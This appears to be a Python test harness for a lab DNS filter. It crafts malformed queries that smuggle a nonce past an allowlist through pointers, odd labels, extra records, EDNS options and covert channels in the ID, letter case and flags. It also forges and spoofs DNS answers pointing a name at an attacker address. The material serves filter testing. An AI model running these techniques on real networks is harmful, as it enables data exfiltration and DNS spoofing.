#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""DNS messages that no resolver library would send, and answers that nobody asked for.

dnswire.py query FORM NONCE [SERVER [tcp]]    the messages of FORMS, one by one, from one socket (or one connection, in one segment)
dnswire.py pieces NONCE [SERVER]              a query over TCP, the length prefix and the message in segments of a byte
dnswire.py bits id|case|flags|size NONCE      the nonce's bytes in what surrounds an allowed name
dnswire.py answer TO PORT NONCE               an answer that binds allowed.test to the attacker, to TO, from port 53 where that is allowed
dnswire.py stranger NONCE TIMES [broken]      the same from the attacker's host, in the resolver's name, to the client's port 5353
dnswire.py seen id|case|flags|size PCAP       the same bytes, as hexadecimal, as a capture at the resolver shows them
"""
import os
import socket
import struct
import sys
import time

RESOLVER, EVIL, INSIDE = "198.18.2.53", "198.18.3.66", "198.18.2.80"
A, TXT, OPT = 1, 16, 41


def name(text):
    return b"".join(bytes([len(label)]) + label for label in text.encode().split(b".") if label) + b"\0"


def header(ident=0x1234, flags=0x0100, counts=(1, 0, 0, 0)):
    return struct.pack(">HH4H", ident, flags, *counts)


def question(text, kind=A, klass=1):
    return name(text) + struct.pack(">HH", kind, klass)


def record(owner, kind, data, klass=1, ttl=60):
    return owner + struct.pack(">HHIH", kind, klass, ttl, len(data)) + data


def text_record(nonce):
    return record(name("allowed.test"), TXT, bytes([len(nonce)]) + nonce.encode())


def option(code, data):
    return record(b"\0", OPT, struct.pack(">HH", code, len(data)) + data, 1232)


def raw(labels):
    return header() + labels + struct.pack(">HH", A, 1)


def label(data):
    return bytes([len(data)]) + data


def forms(nonce):
    """Each: messages whose nonce must not leave, whatever of the message does."""
    word = nonce.encode()
    wild = nonce + ".wild.test"  # below a wildcard: the name alone would pass
    secret = [word.ljust(size, b"=") for size in (16, 400)]
    return {
        "denied": [header() + question(nonce + ".evil.test")],
        "plain": [header() + question(wild)],
        # names
        "pointer-forward": [raw(label(word) + b"\xc0\x20").ljust(32, b"\0") + name("a.wild.test")],
        "pointer-loop": [raw(label(word) + b"\xc0\x0c"), raw(label(word) + b"\xc0" + bytes([12 + 1 + len(word)]))],
        "pointer-header": [raw(label(word) + b"\xc0\x04")],
        "label-types": [raw(label(word) + bytes([kind]) + b"\1a" + name("wild.test")) for kind in (0x40, 0x41, 0x80, 0xbf)],
        "dot": [raw(label(word + b".a.wild") + name("test")), raw(label(word + b".") + name("wild.test"))],
        "nul": [raw(label(word + b"\0") + name("wild.test")), raw(label(word + b".wild.test\0x") + name("wild.test"))],
        "bytes": [raw(label(word + odd) + name("wild.test")) for odd in (b" x", b"\x07", b"\x1b[31m", b"\xff\xfe", b"\xc3\xa9", b"*", b"\\046", b"/../")],
        # sections and counts
        "two-questions": [header(counts=(2, 0, 0, 0)) + question("allowed.test") + question(nonce + ".evil.test"),
                          header(counts=(1, 0, 0, 0)) + question("allowed.test") + question(nonce + ".evil.test")],
        "no-question": [header(counts=(0, 0, 0, 0)) + word, header(counts=(0, 0, 0, 1)) + text_record(nonce), header(counts=(0, 1, 0, 0)) + text_record(nonce)],
        "records": [header(counts=(1, 1, 0, 0)) + question("allowed.test") + text_record(nonce),
                    header(counts=(1, 0, 1, 0)) + question("allowed.test") + text_record(nonce),
                    header(counts=(1, 0, 0, 1)) + question("allowed.test") + text_record(nonce),
                    header(counts=(1, 0, 0, 2)) + question("allowed.test") + option(65001, b"x") + text_record(nonce)],
        "trailing": [header() + question("allowed.test") + word, header(counts=(1, 0, 0, 1)) + question("allowed.test") + record(b"\0", OPT, b"", 1232) + word],
        "response": [header(flags=0x8180) + question(wild), header(flags=0x8180, counts=(1, 1, 0, 0)) + question(wild) + text_record(nonce)],
        "opcodes": [header(flags=code << 11) + question(wild, kind) for code, kind in ((1, A), (2, A), (4, 6), (5, 6), (6, A), (15, A))],
        "two-question-answer": [header(flags=0x8180, counts=(2, 0, 0, 0)) + question("allowed.test") + question(wild)],
        # types and classes
        "types": [header() + question(wild, kind) for kind in (10, TXT, 255, 15, 25, 33, 65399)],
        "svcb": [header() + question(wild, kind) for kind in (64, 65)],
        "axfr": [header() + question(wild, kind) for kind in (251, 252)],
        "classes": [header() + question(wild, A, klass) for klass in (3, 4, 254, 255)],
        # EDNS
        "option": [header(counts=(1, 0, 0, 1)) + question("allowed.test") + option(code, data) for code in (65001, 26946, 12) for data in secret],
        "cookie": [header(counts=(1, 0, 0, 1)) + question("allowed.test") + option(10, (word + b"01234567")[:40]),
                   header(counts=(1, 0, 0, 1)) + question("allowed.test") + option(3, word)],
        "subnet": [header(counts=(1, 0, 0, 1)) + question("allowed.test") + option(8, b"\0\1\x20\0" + word)],
        "oversize": [header(counts=(1, 0, 0, 1)) + question("allowed.test") + option(65001, (word + b"=" * 60000)[:size]) for size in (4000, 60000)],
        "ptr": [header() + question(nonce + ".3.18.198.in-addr.arpa", 12), header() + question("66.3.18.198." + nonce + ".ip6.arpa", 12)],
    }


def send(form, nonce, server=RESOLVER, over="udp"):
    messages = forms(nonce)[form]
    if over == "tcp":
        sock = socket.create_connection((server, 53), 20)
        sock.settimeout(0.7)
        sock.sendall(b"".join(struct.pack(">H", len(m)) + m for m in messages))
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect((server, 53))
        sock.settimeout(0.15)
    for message in messages:
        try:
            if over == "udp":
                sock.send(message)
            print(sock.recv(65535)[:12].hex())
        except OSError as error:
            print(error)


def mixed(messages):
    """Over one connection, in one segment: an allowed question first."""
    return [header() + question("allowed.test")] + messages


def hear(sock, count):
    """So many answers, or until it is closed."""
    data = b""
    try:
        while count and (more := sock.recv(4096)):
            data += more
            while len(data) >= 2 and len(data) >= 2 + (size := struct.unpack(">H", data[:2])[0]):
                print(data[:12].hex())
                data, count = data[2 + size :], count - 1
    except OSError as error:
        print(error)


def pieces(nonce, server=RESOLVER):
    sock = socket.create_connection((server, 53), 20)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(20)
    for message in mixed(forms(nonce)["denied"]):
        for byte in struct.pack(">H", len(message)) + message:
            sock.send(bytes([byte]))
            time.sleep(0.002)
    hear(sock, len(mixed(forms(nonce)["denied"])))


def pipelined(nonce, server=RESOLVER):
    """Length 0 between them: a reader that loses its place would read the rest as something else."""
    for glue in b"", b"\0\0":
        sock = socket.create_connection((server, 53), 20)
        sock.settimeout(5)
        wire = [struct.pack(">H", len(m)) + m for m in mixed(forms(nonce)["denied"])]
        sock.sendall(glue.join(wire))
        hear(sock, len(wire))


def bits(kind, nonce):
    """A byte a query, in the id's upper half, in the case of letters or in the size that EDNS offers; in AD and CD two bits a query."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((RESOLVER, 53))
    sock.settimeout(1)
    word = nonce.encode()
    for i in range(len(word)):
        value, ident, flags, shown, size = word[i], 0x4000 + i, 0x0100, "allowed", 1232
        if kind == "id":
            ident = value << 8 | i
        elif kind == "case":
            shown = "".join(c.upper() if value >> bit & 1 else c for bit, c in enumerate(shown))
        elif kind == "flags":  # two bits a query, in AD and CD
            for shift in (6, 4, 2, 0):
                sock.send(header(ident, 0x0100 | (value >> shift & 3) << 4) + question("both.test"))
                sock.recv(4096)
            continue
        elif kind == "size":
            size = 512 + value
        sock.send(header(ident, flags, (1, 0, 0, 1)) + question(shown + ".test") + record(b"\0", OPT, b"", size))
        sock.recv(4096)


def queries(pcap):
    """DNS queries in a capture (Ethernet, IPv4, UDP to port 53)."""
    data = open(pcap, "rb").read()
    order, at = "<" if data[:4] == b"\xd4\xc3\xb2\xa1" else ">", 24
    while at + 16 <= len(data):
        size = struct.unpack(order + "I", data[at + 8 : at + 12])[0]
        frame = data[at + 16 : at + 16 + size]
        at += 16 + size
        if frame[12:14] == b"\x08\0" and frame[23] == 17 and frame[36:38] == b"\0\x35" and len(frame) > 54:
            yield frame[42:]


def seen(kind, pcap):
    out, pair = b"", []
    for message in queries(pcap):
        first = message[13 : 13 + message[12]]
        if kind == "id":
            out += message[:1]
        elif kind == "case" and first.lower() == b"allowed":
            out += bytes([sum(1 << bit for bit, c in enumerate(first) if 65 <= c < 97)])
        elif kind == "flags" and first == b"both":
            pair.append(message[3] >> 4 & 3)
            if len(pair) == 4:
                out += bytes([pair[0] << 6 | pair[1] << 4 | pair[2] << 2 | pair[3]])
                pair = []
        elif kind == "size" and message[11] == 1 and first == b"allowed":
            size = struct.unpack(">H", message[-8:-6])[0] - 512
            out += bytes([size]) if 0 <= size < 256 else b""
    print(out.hex())


def forged(ident=0x1234):
    return header(ident, 0x8180, (1, 1, 0, 0)) + question("allowed.test") + record(b"\xc0\x0c", A, socket.inet_aton(EVIL), ttl=3600)


def answer(to, port, nonce):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.bind(("", 53))
    except OSError:
        pass  # an ordinary user: from any port
    for message in forged(), forged() + nonce.encode():
        try:
            sock.sendto(message, (to, int(port)))
        except OSError as error:
            print(error)
    time.sleep(0.1)


def broken():
    """Two questions, an endless name, a record longer than the message, a header alone, half a header, a name of 300 bytes."""
    good = forged()
    head, asked = good[:12], good[12:30]
    data = struct.pack(">HHIH", A, 1, 60, 4) + socket.inet_aton(EVIL)
    return [header(0x1234, 0x8180, (2, 1, 0, 0)) + asked + asked + b"\xc0\x0c" + data, head + b"\xc0\x0c\0\1\0\1" + data, head + asked + b"\xc0\x1e" + data,
            good[:-6] + b"\xff\xff" + good[-4:], head, head[:5], head + b"\x3f" * 300 + data, good[:6] + b"\xff\xff" + good[8:]]  # fmt: skip


def stranger(nonce, times, what="good"):
    """Root on the attacker's host writes packets in the resolver's name."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(int(times)):
        body = forged(i) if what == "good" else broken()[i]
        udp = struct.pack(">HHHH", 53, 5353, 8 + len(body), 0) + body
        packet = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0) + socket.inet_aton(RESOLVER) + socket.inet_aton("198.18.1.2")
        sock.sendto(packet + udp, ("198.18.1.2", 0))
    print(nonce)


COMMANDS = {f.__name__: f for f in (pieces, pipelined, bits, answer, stranger, seen)}

if __name__ == "__main__":
    os.umask(0o077)
    command = sys.argv[1]
    send(*sys.argv[2:]) if command == "query" else COMMANDS[command](*sys.argv[2:])
